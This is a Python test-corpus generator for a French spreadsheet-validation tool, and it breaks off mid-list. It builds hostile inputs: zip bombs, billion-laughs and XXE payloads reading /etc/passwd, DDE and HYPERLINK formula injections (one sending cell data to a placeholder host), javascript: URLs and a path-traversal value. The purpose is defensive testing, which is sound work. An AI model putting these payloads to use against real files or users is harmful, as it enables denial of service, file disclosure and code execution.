"""A hostile corpus, generated from the template and the example: containers, bombs and XML
attacks, injection at every write-back place, control characters and escapes, URLs, dates
and numbers, headers, tampered metadata, référentiels and output-path tricks.

Each ``Case`` builds its input in a folder and says which command runs on it and with what
exit status; ``tests/hostile/test_corpus.py`` runs every case and checks the invariants
(no traceback, the input untouched, nothing half-written, a French message).
"""

from __future__ import annotations

import io
import os
import random
import re
import shutil
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from openpyxl import load_workbook

from sofi_bulk.core.fields import INFOS_SHEET, PERIODES_SHEET, SESSIONS_SHEET
from sofi_bulk.core.layout import FIRST_DATA_ROW, META_SHEET, column_of

ROOT = Path(__file__).resolve().parents[2]
EXAMPLE_CSV = ROOT / "examples" / "referentiel-csv"
SHEET_PART = {
    SESSIONS_SHEET: "xl/worksheets/sheet2.xml",
    INFOS_SHEET: "xl/worksheets/sheet3.xml",
    PERIODES_SHEET: "xl/worksheets/sheet4.xml",
    META_SHEET: "xl/worksheets/sheet6.xml",
}
INJECTIONS = [
    '=HYPERLINK("http://exemple.invalid/?x="&A1,"clic")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
]


@dataclass
class Case:
    name: str
    category: str
    make: Callable[[Path, Base], Path]  # builds the input in a folder, returns its path
    command: list[str]  # "{in}", "{out}", "{dir}" are replaced
    status: set[int]
    message: str | None = None  # a piece of the French message expected on stderr
    check: Callable[[Path], None] | None = None  # more assertions on the output written
    output: str | None = None  # the output the command writes ("{out}"), checked when it exits 0/1
    prepare: Callable[[Path, Path], None] | None = None  # sets up the output path itself


@dataclass
class Base:
    """The files the cases start from, built once."""

    folder: Path
    workbook: Path  # a small filled workbook (3 sessions), valid
    template: Path  # a small blank template
    extras: dict[str, Any] = field(default_factory=dict)


def build_base(folder: Path) -> Base:
    from sofi_bulk.core.lots import select_lots
    from sofi_bulk.core.profile import load_profile
    from sofi_bulk.excel.referentiel import load_referentiel
    from sofi_bulk.excel.sample import make_sample
    from sofi_bulk.excel.template import TemplateBuilder

    workbook = folder / "base.xlsx"
    make_sample(3, rows=20).save(workbook)
    profile, ref = load_profile(), load_referentiel()
    template = folder / "modele.xlsx"
    TemplateBuilder(
        profile, ref, select_lots(profile, ref, None, None), session_rows=20, child_rows=20
    ).save(template)
    return Base(folder, workbook, template)


# --- building inputs ------------------------------------------------------------------------
def copy_of(source: Path, folder: Path, name: str) -> Path:
    out = folder / name
    shutil.copy(source, out)
    return out


def rezip(
    source: Path,
    out: Path,
    edits: dict[str, Callable[[bytes], bytes] | bytes | None],
    extra: list[tuple[str, bytes]] = (),
) -> Path:
    """A copy of an xlsx with parts replaced (bytes), rewritten (function) or removed (None)."""
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename in edits:
                edit = edits[info.filename]
                if edit is None:
                    continue
                data = edit(data) if callable(edit) else edit
            zout.writestr(info.filename, data)
        for name, data in extra:
            zout.writestr(name, data)
    return out


def with_cells(
    base: Path,
    out: Path,
    values: dict[tuple[str, str], Any],
    edit: Callable[[Any], None] | None = None,
) -> Path:
    """A copy of a workbook with cells set by openpyxl (text as text, even with a leading =)."""
    book = load_workbook(base)
    for ws in book.worksheets:
        ws.protection.sheet = False
    for (sheet, ref), value in values.items():
        cell = book[sheet][ref]
        cell.value = value
        if isinstance(value, str):
            cell.data_type = "s"
    if edit:
        edit(book)
    book.save(out)
    return out


def cell(key: str, row: int = 0, sheet: str = SESSIONS_SHEET) -> str:
    return f"{column_of(sheet, key).letter}{FIRST_DATA_ROW + row}"


def in_sheet_xml(part: str, before: bytes, after: bytes) -> Callable[[bytes], bytes]:
    def edit(data: bytes) -> bytes:
        assert before in data, (part, before)
        return data.replace(before, after, 1)

    return edit


def doctype(data: bytes, dtd: bytes) -> bytes:
    """Put a DOCTYPE right after the XML declaration of a part."""
    head, sep, rest = data.partition(b"?>")
    return head + sep + dtd + rest if sep else dtd + data


LAUGHS = (
    b'<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;'
    b'&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">'
    b'<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">'
    b'<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">'
    b'<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">]>'
)
XXE = b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def csv_referentiel(folder: Path, name: str, edits: dict[str, Callable[[str], str]]) -> Path:
    out = folder / name
    shutil.copytree(EXAMPLE_CSV, out)
    for table, edit in edits.items():
        path = out / f"{table}.csv"
        path.write_text(edit(path.read_text(encoding="utf-8")), encoding="utf-8")
    return out


def filled_with(referentiel_folder: Path, out: Path) -> Path:
    """A filled workbook made from a référentiel (its values land in Listes, Aide and _meta)."""
    from sofi_bulk.excel.referentiel import load_referentiel
    from sofi_bulk.excel.sample import make_sample

    make_sample(2, referentiel=load_referentiel(referentiel_folder), rows=10).save(out)
    return out


# --- output checks ---------------------------------------------------------------------------
def sheet_xml(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/sheet")}


def no_formula(path: Path) -> None:
    """No cell of the written workbook is a formula (XML level: no <f> element)."""
    for name, data in sheet_xml(path).items():
        assert not re.search(rb"<(?:\w+:)?f[ >/]", data), f"{name} holds a formula"


def text_reads_back(texts: list[str]) -> Callable[[Path], None]:
    """Each text is in the written workbook as text (XML: inline or shared string, no <f>),
    and reads back equal with python-calamine."""

    def check(out: Path) -> None:
        no_formula(out)
        from python_calamine import CalamineWorkbook

        book = CalamineWorkbook.from_path(str(out))
        found = set()
        for sheet in book.sheet_names:
            for row in book.get_sheet_by_name(sheet).to_python():
                found.update(v for v in row if isinstance(v, str))
        missing = [t for t in texts if t not in found]
        assert not missing, missing

    return check


# --- the cases ------------------------------------------------------------------------------
def cases() -> list[Case]:
    v = ["validate", "{in}"]
    vo = ["validate", "{in}", "-o", "{out}"]
    out: list[Case] = []

    def add(
        name: str,
        category: str,
        make: Callable[[Path, Base], Path],
        command: list[str],
        status: int | set[int],
        **kw: Any,
    ) -> None:
        out.append(
            Case(
                name, category, make, command, {status} if isinstance(status, int) else status, **kw
            )
        )

    # containers -------------------------------------------------------------------------------
    def raw(name: str, data: bytes) -> Callable[[Path, Base], Path]:
        def make(folder: Path, base: Base) -> Path:
            path = folder / name
            path.write_bytes(data)
            return path

        return make

    rng = random.Random(42)
    add("vide", "conteneur", raw("vide.xlsx", b""), v, 2, message="vide")
    add(
        "octets-au-hasard",
        "conteneur",
        raw("hasard.xlsx", bytes(rng.randrange(256) for _ in range(4096))),
        v,
        2,
    )
    add(
        "pdf",
        "conteneur",
        raw("offre.xlsx", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n"),
        v,
        2,
        message="PDF",
    )
    add(
        "csv",
        "conteneur",
        raw("saisie.xlsx", "Réf. session;Numéro lot CR\nS1;PAS2025_1\n".encode()),
        v,
        2,
        message="CSV",
    )
    add(
        "cfb-chiffre",
        "conteneur",
        raw("protege.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4088)),
        v,
        2,
        message="mot de passe",
    )
    add(
        "biff-xls",
        "conteneur",
        raw("ancien.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x09\x08" + bytes(510)),
        v,
        2,
    )
    add(
        "html-deguise",
        "conteneur",
        raw("page.xlsx", b"<html><body><table><tr><td>1</td></tr></table>"),
        v,
        2,
    )
    add("utf16", "conteneur", raw("texte.xlsx", "Réf. session\tLot\n".encode("utf-16")), v, 2)

    def ods(folder: Path, base: Base) -> Path:
        path = folder / "classeur.xlsx"
        with zipfile.ZipFile(path, "w") as z:
            z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
            z.writestr("content.xml", "<office:document-content/>")
        return path

    add("ods", "conteneur", ods, v, 2, message=".ods")

    def zip_without_workbook(folder: Path, base: Base) -> Path:
        path = folder / "archive.xlsx"
        with zipfile.ZipFile(path, "w") as z:
            z.writestr("notes.txt", "rien")
        return path

    add("zip-sans-classeur", "conteneur", zip_without_workbook, v, 2)

    def truncated(folder: Path, base: Base) -> Path:
        data = base.workbook.read_bytes()
        return raw("tronque.xlsx", data[: len(data) // 2])(folder, base)

    add("tronque", "conteneur", truncated, v, 2, message="endommagé")

    def duplicate_entry(folder: Path, base: Base) -> Path:
        path = folder / "double.xlsx"
        with zipfile.ZipFile(base.workbook) as zin, zipfile.ZipFile(path, "w") as zout:
            for info in zin.infolist():
                zout.writestr(info.filename, zin.read(info.filename))
            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                zout.writestr("xl/workbook.xml", b"<workbook/>")  # a second entry, same name
        return path

    add("entree-en-double", "conteneur", duplicate_entry, v, 2, message="double")
    add(
        "xlsb",
        "conteneur",
        lambda f, b: rezip(b.workbook, f / "binaire.xlsx", {}, [("xl/workbook.bin", b"\x00\x01")]),
        v,
        2,
        message=".xlsb",
    )

    def many_entries(folder: Path, base: Base) -> Path:
        return rezip(
            base.workbook,
            folder / "foule.xlsx",
            {},
            [(f"xl/media/i{i}.bin", b"") for i in range(5001)],
        )

    add("trop-d-entrees", "conteneur", many_entries, v, 2, message="anormale")

    def unknown_method(folder: Path, base: Base) -> Path:
        data = bytearray(base.workbook.read_bytes())
        for sig, offset in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):  # local and central headers
            for m in re.finditer(re.escape(sig), bytes(data)):
                data[m.start() + offset : m.start() + offset + 2] = (9).to_bytes(2, "little")
        return raw("deflate64.xlsx", bytes(data))(folder, base)

    add("compression-inconnue", "conteneur", unknown_method, v, 2, message="compress")
    add(
        "dossier-en-entree",
        "conteneur",
        lambda f, b: _mkdir(f / "dossier.xlsx"),
        v,
        2,
        message="dossier",
    )
    add("fichier-absent", "conteneur", lambda f, b: f / "absent.xlsx", v, 2, message="introuvable")

    # bombs and XML attacks in every part --------------------------------------------------------
    def bomb(folder: Path, base: Base) -> Path:
        return rezip(
            base.workbook, folder / "bombe.xlsx", {}, [("xl/media/zero.bin", bytes(60 * 2**20))]
        )

    add("bombe-zip-taux", "bombe", bomb, v, 2, message="compression")

    def huge_declared(folder: Path, base: Base) -> Path:
        path = rezip(
            base.workbook,
            folder / "demesure.xlsx",
            {},
            [(f"xl/media/z{i}.bin", bytes(12 * 2**20)) for i in range(2)],
        )
        data = bytearray(path.read_bytes())
        # declare 1.9 GB uncompressed for each zero part in the central directory
        for m in re.finditer(rb"PK\x01\x02", bytes(data)):
            name_len = int.from_bytes(data[m.start() + 28 : m.start() + 30], "little")
            name = bytes(data[m.start() + 46 : m.start() + 46 + name_len])
            if name.startswith(b"xl/media/z"):
                data[m.start() + 24 : m.start() + 28] = (1900 * 2**20).to_bytes(4, "little")
        path.write_bytes(bytes(data))
        return path

    add("bombe-taille-declaree", "bombe", huge_declared, v, 2)
    parts = {
        "classeur": "xl/workbook.xml",
        "feuille": SHEET_PART[SESSIONS_SHEET],
        "styles": "xl/styles.xml",
        "types": "[Content_Types].xml",
        "relations": "xl/_rels/workbook.xml.rels",
    }
    for short, part in parts.items():
        add(
            f"rires-{short}",
            "xml",
            lambda f, b, part=part: rezip(
                b.workbook, f / "rires.xlsx", {part: lambda d: doctype(d, LAUGHS)}
            ),
            v,
            {2},
        )
        add(
            f"xxe-{short}",
            "xml",
            lambda f, b, part=part: rezip(
                b.workbook, f / "xxe.xlsx", {part: lambda d: doctype(d, XXE)}
            ),
            v,
            {2},
        )
    add(
        "xml-imbrique",
        "xml",
        lambda f, b: rezip(
            b.workbook,
            f / "imbrique.xlsx",
            {
                SHEET_PART[INFOS_SHEET]: lambda d: d.replace(
                    b"<sheetData>", b"<sheetData>" + b"<x>" * 100000 + b"</x>" * 100000, 1
                )
            },
        ),
        v,
        {0, 1, 2},
    )
    add(
        "cellule-tres-loin",
        "bombe",
        lambda f, b: rezip(
            b.workbook,
            f / "loin.xlsx",
            {
                SHEET_PART[SESSIONS_SHEET]: lambda d: d.replace(
                    b"</sheetData>",
                    b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
                    b"</sheetData>",
                    1,
                )
            },
        ),
        v,
        2,
        message="très loin",
    )
    add(
        "colonne-tres-loin",
        "bombe",
        lambda f, b: rezip(
            b.workbook,
            f / "large.xlsx",
            {
                SHEET_PART[INFOS_SHEET]: lambda d: d.replace(
                    b"</sheetData>", b'<row r="30"><c r="ZZZ30"><v>1</v></c></row></sheetData>', 1
                )
            },
        ),
        v,
        2,
        message="très loin",
    )

    def infos_with(name: str, xml: bytes, extra: list[tuple[str, bytes]] = ()):
        """The base workbook with ``xml`` added at the end of the Infos collectives sheet."""
        return lambda f, b: rezip(
            b.workbook,
            f / f"{name}.xlsx",
            {SHEET_PART[INFOS_SHEET]: lambda d: d.replace(b"</sheetData>", xml + b"</sheetData>")},
            extra,
        )

    far = b'<row r="7"><c r="A60000" t="n"><v>1</v></c></row>'
    # a far cell written as no spreadsheet program writes it: the reader still places it
    far_forms = {
        "apostrophes": b"<row r='1048576'><c r='XFD1048576' t='n'><v>1</v></c></row>",
        "espaces": b'<row r = "1048576"><c r = "XFD1048576" t="n"><v>1</v></c></row>',
        "minuscules": b'<row r="7"><c r="xfd7" t="n"><v>1</v></c></row>',
        "zeros": b'<row r="7"><c r="A00000060000" t="n"><v>1</v></c></row>',
        "dollars": b'<row r="7"><c r="$XFD$7" t="n"><v>1</v></c></row>',
        "entite": b'<row r="7"><c r="A&#54;0000" t="n"><v>1</v></c></row>',
        "prefixe": b'<row r="7"><x:c xmlns:x="urn:x" r="XFD7" t="n"><v>1</v></x:c></row>',
        "prefixe-accentue": '<row r="7"><é:c r="A60000"><v>1</v></é:c></row>'.encode(),
        "prefixe-vide": b'<row r="7"><:c r="A60000"><v>1</v></:c></row>',
        "valeur-prefixee": '<row r="7"><c r="A60000"><é:v>1</é:v></c></row>'.encode(),
        "fin-en-commentaire": b'<row r="7"><c r="A60000"><!-- </c> --><v>1</v></c></row>',
        "fin-en-cdata": b'<row r="7"><c r="A60000"><![CDATA[</c>]]><v>1</v></c></row>',
        "reference-prefixee": b'<row r="7"><c s="0" r="A7"><v>1</v></c>'
        b'<c r="A60000" x:r="A8"><v>1</v></c></row>',
        "ligne-en-lettres": b'<row r="A60000"><c r="B7"><v>1</v></c><c><v>1</v></c></row>',
        "sans-reference": b'<row r="7">' + b'<c t="n"><v>1</v></c>' * 20000 + b"</row>",
        "reference-en-second": b'<row r="7"><c t="n" r="XFD7"><v>1</v></c></row>',
        "ligne-immense": b'<row r="7"><c r="A99999999999999999999999" t="n"><v>1</v></c></row>',
        "colonne-immense": b'<row r="7"><c r="ABCDEFGHIJKLMNOPQRSTUVWXYZ7"><v>1</v></c></row>',
    }
    for form, xml in far_forms.items():
        made = infos_with(f"loin-{form}", xml)
        add(f"cellule-loin-{form}", "bombe", made, v, 2, message="très loin")
    # where the reader and an XML parser part ways (an attribute twice), no guess: refused
    for form, xml in {
        "deux-references": b'<row r="7"><c r="A7" r="A60000"><v>1</v></c></row>',
        "deux-references-tab": b'<row r="7"><c r="A7"\tr="A60000"><v>1</v></c></row>',
    }.items():
        made = infos_with(f"loin-{form}", xml)
        add(f"cellule-loin-{form}", "bombe", made, v, 2, message="XML mal formé")
    # the reader finds the far sheet where the scan would not look for it by name alone: a
    # copy under a path of another spelling, or a part no sheet of workbook.xml names
    add(
        "cellule-loin-partie-non-listee",
        "bombe",
        infos_with(
            "non-listee",
            b"",
            [
                (
                    "xl/worksheets/./sheet3.xml",
                    b"<worksheet><sheetData>" + far + b"</sheetData></worksheet>",
                )
            ],
        ),
        v,
        2,
        message="très loin",
    )
    add(
        "cellule-loin-casse-du-nom",
        "bombe",
        infos_with(
            "casse",
            b"",
            [
                (
                    "xl/worksheets/SHEET9.xml",
                    b"<worksheet><sheetData>" + far + b"</sheetData></worksheet>",
                )
            ],
        ),
        v,
        2,
        message="très loin",
    )
    # references the reader cannot place: refused as damaged, never a crash
    for form, xml in {
        "ligne-zero": b'<row r="7"><c r="A0" t="n"><v>1</v></c></row>',
        "sans-colonne": b'<row r="7"><c r="123" t="n"><v>1</v></c></row>',
    }.items():
        add(f"reference-{form}", "xml", infos_with(f"ref-{form}", xml), v, 2, message="endommagé")
    add(
        "cellule-vide-stylee-loin",
        "bombe",
        lambda f, b: rezip(
            b.workbook,
            f / "style-loin.xlsx",
            {
                SHEET_PART[SESSIONS_SHEET]: lambda d: d.replace(
                    b"</sheetData>",
                    b'<row r="60000"><c r="B60000" s="1" t="n"></c></row></sheetData>',
                    1,
                )
            },
        ),
        v,
        0,
    )
    add(
        "dimension-geante",
        "bombe",
        lambda f, b: rezip(
            b.workbook,
            f / "dimension.xlsx",
            {
                SHEET_PART[SESSIONS_SHEET]: lambda d: re.sub(
                    rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', d, count=1
                )
            },
        ),
        v,
        0,
    )
    add(
        "chaines-partagees-cassees",
        "xml",
        lambda f, b: rezip(
            b.workbook, f / "partage.xlsx", {}, [("xl/sharedStrings.xml", b"<sst><si><t>non ferme")]
        ),
        v,
        {0, 2},
    )

    # injection at every write-back place --------------------------------------------------------
    text_cells = [
        cell("title_complement", 0),
        cell("highlight", 1),
        cell("duration_comment", 2),
        cell("equipment_comment", 0),
        cell("title_complement", 2),
    ]
    for i, payload in enumerate(INJECTIONS):
        ref = text_cells[i]
        add(
            f"injection-cellule-{i}",
            "injection",
            lambda f, b, ref=ref, payload=payload: with_cells(
                b.workbook, f / "injection.xlsx", {(SESSIONS_SHEET, ref): payload}
            ),
            vo,
            {0, 1},
            output="{out}",
            check=text_reads_back([payload]),
        )
    add(
        "injection-en-tete-ajoutee",
        "injection",
        lambda f, b: with_cells(
            b.workbook,
            f / "entete.xlsx",
            {(SESSIONS_SHEET, "CA2"): INJECTIONS[1], (SESSIONS_SHEET, "CA3"): INJECTIONS[0]},
        ),
        vo,
        {0, 1},
        output="{out}",
        check=text_reads_back(INJECTIONS[:2]),
    )
    add(
        "injection-hors-modele",
        "injection",
        lambda f, b: with_cells(b.workbook, f / "dessus.xlsx", {}, edit=_note_above(INJECTIONS[0])),
        vo,
        {0, 1},
        output="{out}",
        check=text_reads_back([INJECTIONS[0]]),
    )
    add(
        "injection-feuille-ajoutee",
        "injection",
        lambda f, b: with_cells(
            b.workbook, f / "feuille.xlsx", {}, edit=_extra_sheet("=1+1", INJECTIONS[2])
        ),
        vo,
        {0, 1},
        output="{out}",
        check=text_reads_back(["=1+1", INJECTIONS[2]]),
    )
    add(
        "injection-meta",
        "injection",
        lambda f, b: with_cells(
            b.workbook, f / "meta.xlsx", {}, edit=_meta_value("siret", INJECTIONS[0])
        ),
        vo,
        {0, 1, 2},
        output="{out}",
        check=no_formula,
    )
    injected_ref = {
        "lots": lambda t: t.replace("PREPA Avenir Sup - Nantes Métropole", INJECTIONS[0]).replace(
            "2868", "+2868"
        ),
        "organismes": lambda t: t.replace("Institut Ligérien de Formation", "@SUM(1,1)"),
        "sites": lambda t: t.replace("ILF Nantes - Principal", "=cmd|' /C calc'!A0"),
    }
    add(
        "injection-referentiel-modele",
        "injection",
        lambda f, b: csv_referentiel(f, "=referentiel", injected_ref),
        ["template", "--referentiel", "{in}", "-o", "{out}"],
        0,
        output="{out}",
        check=text_reads_back([INJECTIONS[0], "@SUM(1,1)", "+2868"]),
    )
    add(
        "injection-referentiel-copie",
        "injection",
        lambda f, b: filled_with(
            csv_referentiel(f, "ref-injecte", injected_ref), f / "rempli.xlsx"
        ),
        vo,
        {0, 1},
        output="{out}",
        check=text_reads_back([INJECTIONS[0], "@SUM(1,1)"]),
    )
    add(
        "injection-nom-de-feuille",
        "injection",
        lambda f, b: with_cells(
            b.workbook, f / "nom.xlsx", {}, edit=_extra_sheet("x", "y", title="=Budget")
        ),
        vo,
        {0, 1},
        output="{out}",
        check=no_formula,
    )

    # control characters and escapes --------------------------------------------------------------
    controls = {
        "texte": (cell("title_complement"), "Nan\x01tes"),
        "code": (cell("rhythm"), "temps\x02plein"),
        "date": (cell("start_date"), "10/02\x03/2025"),
        "nombre": (cell("places"), "1\x042"),
        "lot": (cell("lot"), "PAS2025\x05_1"),
        "site": (cell("site"), "36364\x06"),
        "url": (cell("action_url"), "https://exemple.fr/\x07"),
        "email": (cell("liaison_email"), "a\x08@b.fr"),
    }
    for kind, (ref, value) in controls.items():
        add(
            f"controle-{kind}",
            "controle",
            lambda f, b, ref=ref, value=value: with_cells(
                b.workbook,
                f / "controle.xlsx",
                {
                    (SESSIONS_SHEET, ref): value.replace("\x01", "_x0001_")
                    .replace("\x02", "_x0002_")
                    .replace("\x03", "_x0003_")
                    .replace("\x04", "_x0004_")
                    .replace("\x05", "_x0005_")
                    .replace("\x06", "_x0006_")
                    .replace("\x07", "_x0007_")
                    .replace("\x08", "_x0008_")
                },
            ),
            vo,
            1,
            output="{out}",
            check=text_reads_back([value]),
            message=None,
        )
    add(
        "echappement-litteral",
        "controle",
        lambda f, b: rezip(
            b.workbook,
            f / "litteral.xlsx",
            {
                SHEET_PART[SESSIONS_SHEET]: _inline_text(
                    cell("title_complement"), "_x005F_x0041_ reste _x005F_x0041_"
                )
            },
        ),
        vo,
        {0, 1},
        output="{out}",
        check=text_reads_back(["_x0041_ reste _x0041_"]),
    )
    add(
        "controle-colonne-ajoutee",
        "controle",
        lambda f, b: rezip(
            b.workbook,
            f / "ajoutee.xlsx",
            {SHEET_PART[SESSIONS_SHEET]: _inline_text("CB3", "note_x0001_cachée")},
        ),
        vo,
        {0, 1},
        output="{out}",
        check=text_reads_back(["note\x01cachée"]),
    )
    add(
        "controle-en-tete",
        "controle",
        lambda f, b: rezip(
            b.workbook,
            f / "entete-controle.xlsx",
            {SHEET_PART[SESSIONS_SHEET]: _inline_text("CC2", "Titre_x000B_bis")},
        ),
        vo,
        {0, 1},
        output="{out}",
        check=text_reads_back(["Titre\x0bbis"]),
    )
    add(
        "controle-infos",
        "controle",
        lambda f, b: with_cells(
            b.workbook,
            f / "infos.xlsx",
            {(INFOS_SHEET, cell("ic_comment", 0, INFOS_SHEET)): "Salle_x0010_12"},
        ),
        vo,
        1,
        output="{out}",
        check=text_reads_back(["Salle\x1012"]),
    )
    add(
        "zero-largeur",
        "controle",
        lambda f, b: with_cells(
            b.workbook, f / "zero.xlsx", {(SESSIONS_SHEET, cell("places")): "1\u200b2"}
        ),
        vo,
        {0, 1},
        output="{out}",
        check=no_formula,
    )

    # URLs, dates and numbers ---------------------------------------------------------------------
    values = {
        "url-ipv6-ouverte": (cell("action_url"), "http://[host"),
        "url-espace": (cell("action_url"), "https://exa mple.fr"),
        "url-javascript": (cell("action_url"), "javascript:alert(1)"),
        "url-longue": (cell("pdf_url"), "https://exemple.fr/" + "a" * 20000),
        "url-port": (cell("pdf_url"), "https://exemple.fr:99999999/x.pdf"),
        "date-impossible": (cell("start_date"), "31/02/2025"),
        "date-zero": (cell("start_date"), "0/0/0"),
        "date-serie-enorme": (cell("start_date"), 1e9),
        "date-serie-negative": (cell("end_date"), -5),
        "nombre-nan": (cell("places"), "NaN"),
        "nombre-inf": (cell("fee_excl_tax"), "inf"),
        "nombre-1e309": (cell("fee_excl_tax"), "1e309"),
        "nombre-geant": (cell("places"), 10.0**300),
        "entier-immense": (cell("centre_hours"), "9" * 400),
        "heure-absurde": (cell("ic_start_time", 0, INFOS_SHEET), "99h99"),
    }
    for name, (ref, value) in values.items():
        sheet = INFOS_SHEET if name == "heure-absurde" else SESSIONS_SHEET
        add(
            name,
            "valeurs",
            lambda f, b, ref=ref, value=value, sheet=sheet: with_cells(
                b.workbook, f / "valeurs.xlsx", {(sheet, ref): value}
            ),
            vo,
            1,
            output="{out}",
            check=no_formula,
        )
    add(
        "nombre-nan-xml",
        "valeurs",
        lambda f, b: rezip(
            b.workbook,
            f / "nan.xlsx",
            {SHEET_PART[SESSIONS_SHEET]: (_number_xml(cell("places"), b"NaN"))},
        ),
        vo,
        {1, 2},
        output="{out}",
        check=no_formula,
    )
    add("calendrier-1904", "valeurs", _workbook_1904, vo, {0, 1}, output="{out}", check=no_formula)

    # headers -------------------------------------------------------------------------------------
    headers = {
        "en-tete-nbsp": "Date\u00a0début",
        "en-tete-retour-ligne": "Date\ndébut",
        "en-tete-majuscules": "DATE DÉBUT",
        "en-tete-etoile": "Date début *",
    }
    for name, header in headers.items():
        ref = f"{column_of(SESSIONS_SHEET, 'start_date').letter}2"
        add(
            name,
            "en-tetes",
            lambda f, b, ref=ref, header=header: with_cells(
                b.workbook, f / "entetes.xlsx", {(SESSIONS_SHEET, ref): header}
            ),
            vo,
            0,
            output="{out}",
        )
    add(
        "en-tetes-fusionnes",
        "en-tetes",
        lambda f, b: with_cells(b.workbook, f / "fusion.xlsx", {}, edit=_merge_headers),
        vo,
        {0, 1},
        output="{out}",
    )
    add(
        "en-tetes-effaces",
        "en-tetes",
        lambda f, b: with_cells(
            b.workbook, f / "sans-entetes.xlsx", {}, edit=_clear_row(SESSIONS_SHEET, 2)
        ),
        v,
        2,
        message="en-têtes",
    )
    add(
        "en-tete-en-double",
        "en-tetes",
        lambda f, b: with_cells(
            b.workbook, f / "double-entete.xlsx", {(SESSIONS_SHEET, "CA2"): "Date début"}
        ),
        vo,
        {0, 1},
        output="{out}",
    )
    add(
        "en-tetes-descendus",
        "en-tetes",
        lambda f, b: with_cells(
            b.workbook, f / "descendus.xlsx", {}, edit=_insert_rows(SESSIONS_SHEET, 12)
        ),
        vo,
        0,
        output="{out}",
    )

    # tampered _meta and Listes -------------------------------------------------------------------
    add(
        "meta-sans-empreinte",
        "meta",
        lambda f, b: with_cells(
            b.workbook, f / "empreinte.xlsx", {}, edit=_drop_meta("referentiel_fingerprint")
        ),
        v,
        2,
        message="empreinte",
    )
    add(
        "meta-empreinte-fausse",
        "meta",
        lambda f, b: with_cells(
            b.workbook, f / "fausse.xlsx", {}, edit=_meta_value("referentiel_fingerprint", "0" * 16)
        ),
        v,
        2,
        message="modifiée",
    )
    add(
        "meta-referentiel-edite",
        "meta",
        lambda f, b: with_cells(
            b.workbook, f / "edite.xlsx", {}, edit=_edit_embedded("Nantes", "Paris")
        ),
        v,
        2,
        message="modifiée",
    )
    add(
        "meta-referentiel-tronque",
        "meta",
        lambda f, b: with_cells(
            b.workbook, f / "tronque-meta.xlsx", {}, edit=_edit_embedded(None, None)
        ),
        v,
        2,
        message="illisible",
    )
    add(
        "meta-programme-inconnu",
        "meta",
        lambda f, b: with_cells(
            b.workbook, f / "programme.xlsx", {}, edit=_meta_value("programme", "../../etc/passwd")
        ),
        v,
        2,
        message="programme",
    )
    add(
        "meta-version",
        "meta",
        lambda f, b: with_cells(
            b.workbook, f / "version.xlsx", {}, edit=_meta_value("template_version", "1999.9")
        ),
        v,
        2,
        message="version",
    )
    add(
        "meta-supprimee",
        "meta",
        lambda f, b: with_cells(
            b.workbook, f / "sans-meta.xlsx", {}, edit=lambda book: book.remove(book[META_SHEET])
        ),
        vo,
        0,
        output="{out}",
    )
    add(
        "listes-modifiees",
        "meta",
        lambda f, b: with_cells(
            b.workbook,
            f / "listes.xlsx",
            {
                ("Listes", "Z2"): "99999 - Site pirate",
                (SESSIONS_SHEET, cell("site")): "99999 - Site pirate",
            },
        ),
        vo,
        1,
        output="{out}",
        check=text_reads_back(["99999 - Site pirate"]),
    )

    # référentiels --------------------------------------------------------------------------------
    template = ["template", "--referentiel", "{in}", "-o", "{out}"]
    add("ref-absent", "referentiel", lambda f, b: f / "absent", template, 2, message="introuvable")
    add("ref-pdf", "referentiel", raw("ref.pdf", b"%PDF-1.4"), template, 2)
    add(
        "ref-zip-bombe",
        "referentiel",
        lambda f, b: rezip(
            Path(ROOT / "examples" / "referentiel-exemple.xlsx"),
            f / "ref-bombe.xlsx",
            {},
            [("xl/media/zero.bin", bytes(60 * 2**20))],
        ),
        template,
        2,
        message="compression",
    )
    add(
        "ref-cellule-loin",
        "referentiel",
        lambda f, b: rezip(
            Path(ROOT / "examples" / "referentiel-exemple.xlsx"),
            f / "ref-loin.xlsx",
            {
                "xl/worksheets/sheet1.xml": lambda d: d.replace(
                    b"</sheetData>",
                    b'<row r="900000"><c r="A900000"><v>1</v></c></row></sheetData>',
                    1,
                )
            },
        ),
        template,
        2,
        message="très loin",
    )
    add(
        "ref-csv-manquant",
        "referentiel",
        lambda f, b: _without(csv_referentiel(f, "ref", {}), "sites.csv"),
        template,
        2,
        message="sites",
    )
    add(
        "ref-csv-siret-faux",
        "referentiel",
        lambda f, b: csv_referentiel(
            f, "ref", {"organismes": lambda t: t.replace("44198765800016", "44198765800017")}
        ),
        template,
        2,
        message="SIRET",
    )
    add("ref-csv-cp1252", "referentiel", _cp1252_referentiel, template, 0, output="{out}")
    add(
        "ref-csv-controle",
        "referentiel",
        lambda f, b: csv_referentiel(
            f, "ref", {"sites": lambda t: t.replace("ILF Saint-Nazaire", "ILF\x01Saint-Nazaire")}
        ),
        template,
        0,
        output="{out}",
